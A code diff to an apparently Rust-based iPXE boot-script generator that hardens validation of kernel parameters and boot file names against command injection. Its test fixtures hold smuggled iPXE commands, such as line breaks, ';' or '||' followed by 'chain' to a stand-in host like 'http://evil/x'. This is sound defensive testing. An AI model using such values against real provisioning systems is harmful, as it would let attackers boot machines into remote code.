@@ -105,16 +105,8 @@ pub fn write_discovery_script(
         settings.kernel_append_params.as_str(),
         &format!("ipa-inspection-callback-url={callback_url}"),
     ];
-    if params
-        .iter()
-        .any(|param| param.chars().any(char::is_control))
-    {
-        return Err(DriverError::invalid(
-            "settings.kernel_append_params",
-            "kernel_append_params and the inspection callback URL must be one line each."
-                .to_owned(),
-        ));
-    }
+    crate::kernel_params::check("settings.kernel_append_params", params[0])?;
+    crate::kernel_params::check("the inspection callback URL", params[1])?;
     let script = format!(
         "#!ipxe\n# Written by Ferric: discovery, for machines without a node.\n\
          kernel {kernel} initrd=ramdisk ipa-api-url={api_url} ferric.api_url={api_url} \
@@ -151,13 +143,16 @@ fn hexhyp(mac: &str) -> String {
 /// A URL for `name`: itself when it is one, else a file under the boot server's root.
 pub fn boot_file_url(http_url: &str, name: &str) -> Result<String, DriverError> {
     // The name goes into an iPXE script line: whitespace would add arguments, a line break
-    // commands.
-    if name.chars().any(|c| c.is_whitespace() || c.is_control()) {
+    // commands, `${…}` expands settings, quotes and backslashes change how iPXE splits it.
+    if name
+        .chars()
+        .any(|c| c.is_whitespace() || c.is_control() || matches!(c, '$' | '"' | '\'' | '\\'))
+    {
         return Err(DriverError::invalid(
             "driver_info.deploy_kernel",
             format!(
-                "{name:?} is not a usable boot file: URLs and file names cannot contain spaces or \
-             control characters."
+                "{name:?} is not a usable boot file: URLs and file names cannot contain spaces, \
+             control characters, $, quotes or backslashes."
             ),
         ));
     }
@@ -381,22 +376,23 @@ impl IpxeBoot {
             node.uuid,
             hexhyp(mac)
         );
-        for extra in [
-            self.settings.kernel_append_params.as_str(),
-            Self::node_setting(node, "kernel_append_params", ""),
+        for (field, extra) in [
+            (
+                "settings.kernel_append_params",
+                self.settings.kernel_append_params.as_str(),
+            ),
+            (
+                "driver_info.kernel_append_params",
+                Self::node_setting(node, "kernel_append_params", ""),
+            ),
         ]
         .into_iter()
-        .chain(extra.iter().map(String::as_str))
-        {
-            if extra.chars().any(char::is_control) {
-                return Err(DriverError::invalid(
-                    "driver_info.kernel_append_params",
-                    format!(
-                        "kernel_append_params {extra:?} must be one line of kernel parameters, \
-                     without control characters."
-                    ),
-                ));
-            }
+        .chain(
+            extra
+                .iter()
+                .map(|extra| ("kernel parameters", extra.as_str())),
+        ) {
+            crate::kernel_params::check(field, extra)?;
             if !extra.is_empty() {
                 append.push(' ');
                 append.push_str(extra);
@@ -430,13 +426,16 @@ impl IpxeBoot {
                 kernel,
                 ramdisk,
                 arguments,
-            } => format!(
-                "kernel {} initrd=ramdisk {arguments} || goto retry\n\
+            } => {
+                crate::kernel_params::check("instance_info.ramdisk_kernel_arguments", &arguments)?;
+                format!(
+                    "kernel {} initrd=ramdisk {arguments} || goto retry\n\
                  initrd --name ramdisk {} || goto retry\n\
                  boot\n",
-                boot_file_url(http_url, &kernel)?,
-                boot_file_url(http_url, &ramdisk)?
-            ),
+                    boot_file_url(http_url, &kernel)?,
+                    boot_file_url(http_url, &ramdisk)?
+                )
+            }
         };
         Ok(format!(
             "#!ipxe\n# Written by Ferric for node {uuid} (MAC {mac}): boot the instance \
@@ -730,6 +729,10 @@ mod tests {
             ("deploy_kernel", "http://x/k\nshell"),
             ("deploy_ramdisk", "images/r d"),
             ("kernel_append_params", "a=b\r\nchain http://evil/x"),
+            // iPXE runs `;`-separated commands on one line (issue 41, item 2).
+            ("kernel_append_params", "quiet ; chain http://elsewhere/x"),
+            ("kernel_append_params", "quiet || chain http://elsewhere/x"),
+            ("deploy_kernel", "http://x/k${net0/mac}"),
         ] {
             let mut node = Node::new(Uuid::new_v4(), "fake-hardware", ProvisionState::Deploying);
             node.driver_info.insert(key.to_owned(), value.into());
